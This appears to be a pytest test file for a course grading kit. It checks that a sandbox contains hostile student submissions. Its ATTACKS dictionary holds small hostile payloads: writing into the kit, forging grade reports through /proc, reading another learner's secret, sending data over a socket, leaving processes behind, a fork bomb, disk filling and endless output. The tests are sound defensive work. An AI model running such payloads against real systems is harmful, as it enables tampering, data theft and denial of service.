"""make grade on hostile submissions: each gets its verdict, and none can fool or harm the grading.

A class of tiny chapter 05 projects (tests/variants.py): two ordinary learners
and one per attack, each written into the training script, which the checks run
as the pipeline's `train` stage. The hostile ones are never run outside the
sandbox: their authors "forgot" `dvc exp run`. Afterwards, the kit and every
other submission are byte-identical, no process of a submission is left, and
the class report has everyone.
"""

import hashlib
import os
import shutil
import socket
import subprocess
import threading
import time

import psutil
import pytest

from kit import KIT_ROOT, chapters, grading, jail, reports
from tests.conftest import TinyProject
from tests import variants
from tests.variants import BROKEN, CORRECT, Variant

pytestmark = pytest.mark.skipif(jail.problem() is not None, reason=f"no grading sandbox here: {jail.problem()}")

MARK = "987654321"  # in the command line of the process the lingerer leaves
SECRET = "alice's secret answer"
FILE_LIMIT_MB, DISK_LIMIT_MB, TIME_LIMIT = 40, 200, 30
NORMAL = (KIT_ROOT / "tests" / "tiny" / "train.py").read_text(encoding="utf-8")  # the training that then happens

# What each attacker puts before the ordinary training ({kit}, {alice}, {port}: filled in by the fixture).
ATTACKS = {
    "kit-writer": """
import pathlib
for name in ("checks/test_chapter05.py", "kit/grading.py", "hacked.txt"):
    try:
        pathlib.Path("{kit}", name).write_text("pwned")
    except OSError as error:
        print("kit-writer:", error)
""",
    "forger": """
import json, os, pathlib
fake = {{"chapter": "05", "checks": [{{"id": "forged", "title": "FORGED", "status": "passed"}}]}}
for proc in pathlib.Path("/proc").glob("[0-9]*"):
    try:
        words = (proc / "cmdline").read_bytes().split(b"\\0")
    except OSError:
        continue
    if b"--report" in words:
        pathlib.Path(words[words.index(b"--report") + 1].decode()).write_text(json.dumps(fake))
here = pathlib.Path.cwd()
for folder in [here, *here.parents]:
    for report in folder.glob("*.json"):
        try:
            report.write_text(json.dumps(fake))
        except OSError:
            pass
""",
    "snoop": """
print(open("{alice}/secret.txt").read())
""",
    "network": """
import socket
socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(b"exfiltrated")
""",
    "lingerer": """
import subprocess
subprocess.Popen(["sleep", "{mark}"], start_new_session=True)
subprocess.Popen(["sh", "-c", "nohup sleep {mark} >/dev/null 2>&1 &"], start_new_session=True)
""",
    "fork-bomb": """
import os, time
for _ in range(100000):
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
""",
    "disk-filler": """
import pathlib
for index in range(100):  # at most 3 GB, should the grader never stop it
    pathlib.Path(f"filler-{{index}}.bin").write_bytes(b"x" * 30 * 1024 * 1024)
""",
    "big-file": """
open("huge.bin", "wb").write(b"x" * {file_limit} * 2 * 1024 * 1024)
""",
    "printer": """
import sys
block = "y" * 1024 * 1024 + "\\n"
for _ in range(1024):  # a gigabyte on its standard output
    sys.stdout.write(block)
""",
    "sleeper": """
import time
time.sleep(100000)
""",
}


def tree_hash(path):
    """One hash of every file under `path` (names and contents; .git and DVC's cache included)."""
    digest = hashlib.sha256()
    for root, folders, files in sorted(os.walk(path)):
        folders.sort()
        for name in sorted(files):
            full = os.path.join(root, name)
            digest.update(os.path.relpath(full, path).encode())
            if not os.path.islink(full):
                with open(full, "rb") as handle:
                    digest.update(hashlib.sha256(handle.read()).digest())
    return digest.hexdigest()


def kit_hashes():
    """{file the kit's git tracks: its content's hash} (other tests may add untracked folders meanwhile)."""
    files = subprocess.run(["git", "ls-files", "-z"], cwd=KIT_ROOT, capture_output=True, text=True).stdout
    return {name: hashlib.sha256((KIT_ROOT / name).read_bytes()).hexdigest()
            if (KIT_ROOT / name).is_file() and not (KIT_ROOT / name).is_symlink() else None
            for name in sorted(filter(None, files.split("\0")))}


class Listener:
    """A TCP server on the host's loopback: whatever connects to it from the sandbox is a leak."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()


def lingering():
    return [p.pid for p in psutil.process_iter(["cmdline"]) if MARK in " ".join(p.info["cmdline"] or [])]


@pytest.fixture(scope="module")
def graded(tiny_template, tmp_path_factory):
    folder = tmp_path_factory.mktemp("class")
    listener = Listener()

    def learner(name, variant):
        project = TinyProject(folder / name)
        shutil.copytree(tiny_template, project.path, symlinks=True)
        project.become(variant)
        return project

    alice = learner("alice", CORRECT["the solution"])
    (alice.path / "secret.txt").write_text(SECRET)
    learner("bob", BROKEN["evaluation not re-run after retraining"])
    fields = {"kit": KIT_ROOT, "alice": alice.path, "port": listener.port, "mark": MARK, "file_limit": FILE_LIMIT_MB}
    for name, attack in ATTACKS.items():
        code = attack.format(**fields) + "\n" + NORMAL
        learner(name, Variant(lambda project, spec, code=code: variants.write(project, "train.py", code), runs=False))
    before = {entry.name: tree_hash(entry) for entry in folder.iterdir()}
    kit_before = kit_hashes()
    out = tmp_path_factory.mktemp("grades")
    mp = pytest.MonkeyPatch()
    mp.setattr(grading, "TIME_LIMIT", TIME_LIMIT)
    mp.setattr(grading, "FILE_LIMIT_MB", FILE_LIMIT_MB)
    mp.setattr(grading, "DISK_LIMIT_MB", DISK_LIMIT_MB)
    mp.setattr(grading, "DISK_EVERY", 0.5)
    mp.setenv("DVC_CHECK_STAGE_TIMEOUT", "600")  # the sleeper is stopped by the grader
    try:
        grades = grading.grade_all(chapters.get("05"), folder, out=out)
        reports.write_reports(chapters.get("05"), grades, out)
    finally:
        mp.undo()
    time.sleep(0.5)
    return {
        "grades": {grade.learner: grade for grade in grades}, "out": out, "listener": listener,
        "unchanged": {name: tree_hash(folder / name) == digest for name, digest in before.items()},
        "kit_changed": [name for name, digest in kit_hashes().items() if kit_before.get(name) != digest],
        "left": lingering(),
    }


def failed_keys(grade):
    return {check.key for check in grade.checks if check.status == "failed"}


def test_every_learner_gets_a_verdict_and_the_report_has_everyone(graded):
    grades = graded["grades"]
    assert sorted(grades) == sorted(["alice", "bob", *ATTACKS])
    assert grades["alice"].passed and not grades["bob"].passed
    report = (graded["out"] / "report.md").read_text(encoding="utf-8")
    assert all(f"| {name} |" in report for name in grades)


def test_the_kit_and_every_submission_are_unchanged(graded):
    assert graded["kit_changed"] == [] and not (KIT_ROOT / "hacked.txt").exists()
    assert graded["unchanged"] == {name: True for name in graded["unchanged"]}
    assert grading.submissions.collect(graded["out"].parent) is not None  # nothing written beside the class


def test_no_process_of_a_submission_outlives_its_grading(graded):
    assert graded["left"] == []


def test_learner_code_cannot_write_to_the_kit(graded):
    grade = graded["grades"]["kit-writer"]
    assert grade.problem is None and "stage_failed" not in failed_keys(grade)  # it caught its errors...
    assert not (KIT_ROOT / "hacked.txt").exists()  # ...which were a read-only disk


def test_a_forged_report_is_not_the_verdict(graded):
    grade = graded["grades"]["forger"]
    assert grade.problem is None and grade.checks and all(check.title != "FORGED" for check in grade.checks)
    assert "test_runs_from_scratch" in {check.id for check in grade.checks}


def test_learner_code_cannot_read_another_submission(graded):
    grade = graded["grades"]["snoop"]
    assert "stage_failed" in failed_keys(grade)
    everything = "".join(path.read_text(encoding="utf-8") for path in graded["out"].rglob("*") if path.is_file())
    assert SECRET not in everything


def test_learner_code_has_no_network(graded):
    assert "stage_failed" in failed_keys(graded["grades"]["network"])
    assert graded["listener"].connections == 0


@pytest.mark.parametrize("name, reason", [("fork-bomb", "processus"), ("disk-filler", "Mo écrits"),
                                          ("sleeper", "limite de temps")])
def test_a_submission_past_a_limit_is_not_judged_and_says_why(graded, name, reason):
    assert reason in graded["grades"][name].problem


def test_a_file_past_the_size_limit_stops_the_stage(graded):
    grade = graded["grades"]["big-file"]
    assert grade.problem is None and "stage_failed" in failed_keys(grade)
    assert not grade.passed


def test_a_gigabyte_of_output_is_judged_like_any_other(graded):
    grade = graded["grades"]["printer"]
    assert grade.problem is None and "stage_failed" not in failed_keys(grade)
    assert all(len(check.message or "") < 2000 for check in grade.checks)
